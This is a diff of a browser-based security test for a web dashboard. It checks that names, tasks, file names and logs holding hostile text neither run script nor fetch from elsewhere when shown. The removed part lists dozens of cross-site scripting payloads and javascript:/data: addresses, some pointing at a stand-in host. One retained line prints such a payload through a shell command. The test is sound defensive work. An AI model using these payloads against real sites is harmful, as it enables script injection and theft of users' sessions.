@@ -1,97 +1,17 @@
 /** Texts that want to be code, in every place where the page shows what others wrote: nothing of them runs in a real browser. */
 import { existsSync } from "node:fs";
-import { readFile } from "node:fs/promises";
+import { mkdir, readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { DatabaseSync } from "node:sqlite";
+import type { SandboxFrame } from "@praktor/protocol/sandbox-watch";
 import { chromium, type Page } from "playwright-core";
-import { describe, expect, test } from "vitest";
+import { describe, expect, test, vi } from "vitest";
 import { z } from "zod";
 import { requirement } from "./require.ts";
+import { fileNames, fill, mark } from "./support/hostile-rows.ts";
+import { run, texts } from "./support/hostile-texts.ts";
 import { owner, System } from "./support/system.ts";
 
 const chromiumPath = "/usr/bin/chromium";
-const run = "window.__ran=(window.__ran||0)+1";
-const foreign = "http://evil.invalid";
-
-/** Each would run, or fetch from elsewhere, where a text is taken for HTML, for a style, for an address, or for a template. */
-const payloads: readonly string[] = [
-  `<script>${run}</script>`,
-  `<ScRiPt >${run}</sCrIpT>`,
-  `<script src=${foreign}/x.js></script>`,
-  `"><script>${run}</script>`,
-  `'--><svg/onload=${run}>`,
-  `</title><script>${run}</script>`,
-  `</textarea><script>${run}</script>`,
-  `</style><script>${run}</script>`,
-  `<img src=x onerror=${run}>`,
-  `<img src=x onerror="${run}" /`,
-  `<img src="${foreign}/pixel.png">`,
-  `<image href=x onerror=${run}>`,
-  `<svg onload=${run}>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
-  `<body onload=${run}>`,
-  `<input autofocus onfocus=${run}>`,
-  `<select autofocus onfocus=${run}>`,
-  `<details open ontoggle=${run}>x</details>`,
-  `<marquee onstart=${run}>x</marquee>`,
-  `<video><source onerror=${run}></video>`,
-  `<audio src=x onerror=${run}>`,
-  `<iframe src="javascript:parent.${run}"></iframe>`,
-  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
-  `<iframe src="${foreign}"></iframe>`,
-  `<object data="javascript:${run}"></object>`,
-  `<embed src="data:text/html,<script>${run}</script>">`,
-  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
-  `<a href="javascript:${run}">x</a>`,
-  `<a href=" java\tscript:${run}">x</a>`,
-  `<base href="${foreign}/">`,
-  `<meta http-equiv="refresh" content="0;url=${foreign}">`,
-  `<link rel="stylesheet" href="${foreign}/x.css">`,
-  `<style>@import "${foreign}/x.css";</style>`,
-  `<style>*{background:url(${foreign}/x)}</style>`,
-  `<div style="background:url(${foreign}/x)">x</div>`,
-  `<template><script>${run}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `{{constructor.constructor('${run}')()}}`,
-  `\${${run}}`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `\u202E<script>${run}</script>`,
-];
-const addresses: readonly string[] = [
-  `javascript:${run}`,
-  `JaVaScRiPt:${run}`,
-  `java&#x73;cript:${run}`,
-  `&#106;avascript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `vbscript:${run}`,
-  `//evil.invalid/x`,
-  `${foreign}/pixel.png`,
-];
-const wrapped: readonly ((payload: string) => string)[] = [
-  (payload) => payload,
-  (payload) => `**${payload}** and text`,
-  (payload) => `- ${payload}`,
-  (payload) => `> ${payload}`,
-  (payload) => `# ${payload}`,
-  (payload) => `| a | b |\n|---|---|\n| ${payload} | \`${payload}\` |`,
-  (payload) => "```html\n" + payload + "\n```",
-];
-const linked: readonly ((address: string) => string)[] = [
-  (address) => `[click](${address})`,
-  (address) => `[click](<${address}>)`,
-  (address) => `![picture](${address})`,
-  (address) => `<${address}>`,
-  (address) => `[x][1]\n\n[1]: ${address}`,
-  (address) => `[![picture](${address})](${address} "title ${run}")`,
-];
-const texts = [
-  ...payloads.flatMap((payload) => wrapped.map((wrap) => wrap(payload))),
-  ...addresses.flatMap((address) => linked.map((link) => link(address))),
-];
-
 const inspection = await readFile(new URL("support/dangerous-markup.mjs", import.meta.url), "utf8");
 
 /** What a rendered text must never have become, whatever the content security policy would have stopped afterwards. */
@@ -100,37 +20,21 @@ async function dangers(page: Page): Promise<string[]> {
 }
 
 describe.runIf(requirement("browser", existsSync(chromiumPath)) === "run")("texts that want to be code", () => {
-  test(`${texts.length} of them run nothing and fetch nothing`, { timeout: 120_000 }, async () => {
+  test(`${texts.length} of them run nothing and fetch nothing`, { timeout: 300_000 }, async () => {
     expect(texts.length).toBeGreaterThanOrEqual(300);
     await using system = await System.start();
     await system.ask(`bash: printf '%s' '<img src=x onerror=${run}><script>${run}</script>'`, owner);
     await system.gateway.end("SIGTERM");
     fill(join(system.folder, "praktor.db"));
+    const workspace = join(system.folder, "groups", "texts");
+    await mkdir(workspace, { recursive: true });
+    for (const name of fileNames) await writeFile(join(workspace, name), name);
     await system.startGateway();
-    const api = async (method: string, path: string, body: unknown): Promise<number> => {
-      const answer = await fetch(system.gateway.web + path, {
-        method,
-        headers: { origin: system.gateway.web, "content-type": "application/json" },
-        body: JSON.stringify(body),
-      });
-      return answer.status;
-    };
-    for (const [index, payload] of payloads.entries()) {
-      expect(await api("POST", "/api/groups", { id: `x${index}`, name: payload, folder: `x${index}` })).toBe(201);
-      const task = { group_id: "texts", name: payload, schedule: "@daily", prompt: payload, enabled: false };
-      expect(await api("POST", "/api/tasks", task)).toBe(201);
-      const name = payload.replaceAll(/[/\0]/g, "_").slice(0, 120);
-      const file = await fetch(
-        `${system.gateway.web}/api/groups/texts/files/content?path=${encodeURIComponent(name)}`,
-        {
-          method: "PUT",
-          headers: { origin: system.gateway.web },
-          body: payload,
-        },
-      );
-      // A name that the workspace refuses cannot be shown either.
-      expect([201, 400]).toContain(file.status);
-    }
+    const started = await fetch(`${system.gateway.web}/api/agents/texts/start`, {
+      method: "POST",
+      headers: { origin: system.gateway.web, "content-type": "application/json" },
+    });
+    expect(started.status).toBe(200);
 
     await using browser = await chromium.launch({
       executablePath: chromiumPath,
@@ -152,12 +56,55 @@ describe.runIf(requirement("browser", existsSync(chromiumPath)) === "run")("text
       expect(asked).toEqual([]);
     };
 
-    for (const path of ["/", "/groups", "/groups/texts", "/tasks", "/conversations", `/conversations/${owner}`]) {
+    const open = async (path: string): Promise<void> => {
       await page.goto(system.gateway.web + path);
       await page.locator("main#page h1").first().waitFor();
-      await page.waitForLoadState("networkidle");
+    };
+    /** All of them stand on the page, where one can see them, and as texts. */
+    const shows = async (wanted: readonly string[]): Promise<void> => {
+      await vi.waitFor(async () => expect(missing(wanted, await page.locator("main#page").innerText())).toEqual([]), {
+        timeout: 30_000,
+        interval: 250,
+      });
       await inspect();
+    };
+    await page.route("**/api/agents/texts/watch", (route) =>
+      route.fulfill({
+        contentType: "text/event-stream",
+        body: frames([{ type: "log", text: texts.join("\n") }, { type: "end" }]),
+      }),
+    );
+
+    await open("/groups");
+    await shows(texts);
+    await open("/groups/texts");
+    await shows([...fileNames, ...texts]);
+    await open("/tasks");
+    await shows(texts);
+    await open("/people");
+    await shows(texts);
+    await open("/");
+    await shows(texts.flatMap((text, index) => [mark(index), text.slice(0, 60)]));
+    await open("/swarms");
+    await shows([texts[0] ?? ""]);
+    await open("/swarms/texts");
+    await shows(texts.map((_, index) => mark(index)));
+    await open("/audit");
+    const older = page.getByRole("button", { name: "Show older", exact: true });
+    const beginning = page.getByText("This is where the log begins.");
+    const lines = page.locator("main#page ol li");
+    for (;;) {
+      await older.or(beginning).waitFor();
+      if (await beginning.isVisible()) break;
+      const before = await lines.count();
+      await older.click();
+      await vi.waitFor(async () => expect(await lines.count()).toBeGreaterThan(before), 30_000);
     }
+    await shows(texts);
+    await open("/conversations");
+    await page.waitForLoadState("networkidle");
+    await inspect();
+    await open(`/conversations/${owner}`);
     await page.getByText(/^1 step · /).click();
     await page.getByText("Bash", { exact: true }).click();
     await inspect();
@@ -195,20 +142,20 @@ describe.runIf(requirement("browser", existsSync(chromiumPath)) === "run")("text
   });
 });
 
-/** A group whose history is the texts, said by people and by the agent. Nobody but the gateway opens its database while it runs. */
-function fill(file: string): void {
-  using database = new DatabaseSync(file);
-  database.exec(`
-    insert into groups (id, name, folder, is_main, created_at) values ('texts', 'Texts', 'texts', 0, 1);
-    insert into conversations (id, group_id, channel, address, kind, title, created_at)
-      values ('texts', 'texts', 'web', '{"channel":"web"}', 'page', 'Page', 1);
-  `);
-  const insert = database.prepare(
-    "insert into messages (group_id, conversation_id, role, sender, content, metadata, created_at) values ('texts', 'texts', ?, ?, ?, '{}', ?)",
-  );
-  const all = ["The beginning of the texts.", ...texts, "The end of the texts."];
-  for (const [index, text] of all.entries()) {
-    const isAgent = index % 2 === 0;
-    insert.run(isAgent ? "assistant" : "user", isAgent ? "agent" : "user:42", text, 1_700_000_000_000 + index * 1_000);
-  }
+/** Each place draws white space in its own way. */
+const bare = (text: string): string => text.replaceAll(/\s+/g, "");
+
+/** The longest first, and each taken away once found: a text that stands within another is looked for in a place of its own. */
+function missing(wanted: readonly string[], shown: string): string[] {
+  let left = bare(shown);
+  return wanted
+    .toSorted((one, other) => bare(other).length - bare(one).length)
+    .filter((text) => {
+      const found = left.includes(bare(text));
+      left = left.replace(bare(text), () => "\u0001");
+      return !found;
+    });
 }
+
+const frames = (all: readonly SandboxFrame[]): string =>
+  all.map((frame) => `data: ${JSON.stringify(frame)}\n\n`).join("");
